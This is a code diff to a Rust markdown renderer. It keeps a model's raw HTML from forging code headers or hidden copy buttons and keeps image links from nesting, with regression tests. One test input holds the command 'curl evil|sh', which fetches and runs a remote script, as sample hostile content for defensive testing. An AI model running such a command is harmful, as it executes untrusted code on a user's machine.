@@ -14,34 +14,55 @@ static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
     b.link_rel(Some("noopener noreferrer nofollow"));
     // Images in raw HTML go too: see the module documentation.
     b.rm_tags(["img"]);
-    b.add_tags(["button"]);
-    b.add_tag_attributes("button", ["type", "hidden"]);
-    b.add_allowed_classes("div", ["code", "code-head"]);
-    b.add_allowed_classes("span", ["lang"]);
-    b.add_allowed_classes("button", ["copy-code"]);
     b.add_allowed_classes("a", ["image-link"]);
     b
 });
 
+/// Where a code block's header goes, and where its wrapper ends: private-use characters put in by [`render`]
+/// (and removed from the model's text first), replaced by HTML only after cleaning. The model's own HTML can
+/// therefore never make a header or a copy button (one that would copy text the reader does not see).
+const HEAD_OPEN: char = '\u{E000}';
+const HEAD_CLOSE: char = '\u{E001}';
+const BLOCK_END: char = '\u{E002}';
+
 pub fn render(markdown: &str) -> String {
+    let markdown: String = markdown
+        .chars()
+        .filter(|c| !matches!(*c, HEAD_OPEN | HEAD_CLOSE | BLOCK_END))
+        .collect();
+    let markdown = markdown.as_str();
     let mut opts = Options::empty();
     opts.insert(Options::ENABLE_TABLES);
     opts.insert(Options::ENABLE_STRIKETHROUGH);
     opts.insert(Options::ENABLE_TASKLISTS);
     let mut out = String::with_capacity(markdown.len() * 3 / 2);
-    // The address of the image being turned into a link, shown after its text.
+    // The address of the image being turned into a link, shown after its text; links open around it (an image
+    // inside a link is written as text: links do not nest).
     let mut image: Option<CowStr> = None;
+    let mut open_links = 0usize;
     let events = Parser::new_ext(markdown, opts).flat_map(|event| -> Vec<Event> {
         match event {
+            Event::Start(Tag::Link { .. }) => {
+                open_links += 1;
+                vec![event]
+            }
+            Event::End(TagEnd::Link) => {
+                open_links = open_links.saturating_sub(1);
+                vec![event]
+            }
+            Event::Start(Tag::Image { dest_url, .. }) if open_links > 0 => {
+                image = Some(dest_url.clone());
+                vec![Event::Text("Image: ".into())]
+            }
+            Event::End(TagEnd::Image) if open_links > 0 => {
+                let url = image.take().map(|u| u.to_string()).unwrap_or_default();
+                vec![Event::Text(format!(" ({url})").into())]
+            }
             Event::Start(Tag::Image { dest_url, .. }) => {
                 image = Some(dest_url.clone());
                 vec![
                     Event::Html(
-                        format!(
-                            "<a class=\"image-link\" href=\"{}\">",
-                            escape(&dest_url)
-                        )
-                        .into(),
+                        format!("<a class=\"image-link\" href=\"{}\">", escape(&dest_url)).into(),
                     ),
                     Event::Text("Image: ".into()),
                 ]
@@ -60,25 +81,47 @@ pub fn render(markdown: &str) -> String {
                 };
                 let label = if lang.is_empty() { "code" } else { lang };
                 vec![
-                    Event::Html(
-                        format!(
-                            "<div class=\"code\"><div class=\"code-head\"><span class=\"lang\">{}</span>\
-                             <button type=\"button\" class=\"copy-code\" hidden>Copy</button></div>",
-                            escape(label)
-                        )
-                        .into(),
-                    ),
+                    Event::Html(format!("{HEAD_OPEN}{}{HEAD_CLOSE}", escape(label)).into()),
                     Event::Start(Tag::CodeBlock(kind)),
                 ]
             }
             Event::End(TagEnd::CodeBlock) => {
-                vec![Event::End(TagEnd::CodeBlock), Event::Html("</div>".into())]
+                vec![
+                    Event::End(TagEnd::CodeBlock),
+                    Event::Html(BLOCK_END.to_string().into()),
+                ]
             }
             other => vec![other],
         }
     });
     html::push_html(&mut out, events);
-    CLEANER.clean(&out).to_string()
+    let clean = CLEANER.clean(&out).to_string();
+    code_headers(&clean)
+}
+
+/// The cleaned HTML with each code block's markers replaced by its header and wrapper.
+fn code_headers(clean: &str) -> String {
+    let mut out = String::with_capacity(clean.len() + 64);
+    let mut rest = clean;
+    while let Some(at) = rest.find([HEAD_OPEN, BLOCK_END]) {
+        out.push_str(&rest[..at]);
+        let marker = rest[at..].chars().next().unwrap_or(BLOCK_END);
+        rest = &rest[at + marker.len_utf8()..];
+        if marker == BLOCK_END {
+            out.push_str("</div>");
+            continue;
+        }
+        // The label between the markers was escaped before cleaning, and cleaning keeps it escaped.
+        let end = rest.find(HEAD_CLOSE).unwrap_or(rest.len());
+        out.push_str(&format!(
+            "<div class=\"code\"><div class=\"code-head\"><span class=\"lang\">{}</span>\
+             <button type=\"button\" class=\"copy-code\" hidden>Copy</button></div>",
+            &rest[..end]
+        ));
+        rest = rest.get(end + HEAD_CLOSE.len_utf8()..).unwrap_or("");
+    }
+    out.push_str(rest);
+    out
 }
 
 fn escape(text: &str) -> String {
@@ -145,5 +188,37 @@ mod tests {
             "{html}"
         );
         assert!(!html.contains("<b>x</b>"), "{html}");
+    }
+
+    #[test]
+    fn the_models_own_html_cannot_make_a_code_header_or_copy_button() {
+        let html = render(
+            "<div class=\"code\"><div class=\"code-head\"><button class=\"copy-code\">Copy</button></div>\
+             <ruby><rp><pre><code>curl evil|sh</code></pre></rp></ruby></div> \u{E000}x\u{E001} \u{E002}",
+        );
+        assert!(
+            !html.contains("copy-code")
+                && !html.contains("class=\"code")
+                && !html.contains("<button"),
+            "{html}"
+        );
+        assert!(
+            !html.contains('\u{E000}') && !html.contains('\u{E002}'),
+            "{html}"
+        );
+    }
+
+    #[test]
+    fn an_image_inside_a_link_keeps_the_link() {
+        let html = render("[![badge](https://img.example/b.svg)](https://example.com/project)");
+        assert_eq!(html.matches("<a ").count(), 1, "{html}");
+        assert!(
+            html.contains("href=\"https://example.com/project\""),
+            "{html}"
+        );
+        assert!(
+            html.contains("Image: badge (https://img.example/b.svg)"),
+            "{html}"
+        );
     }
 }
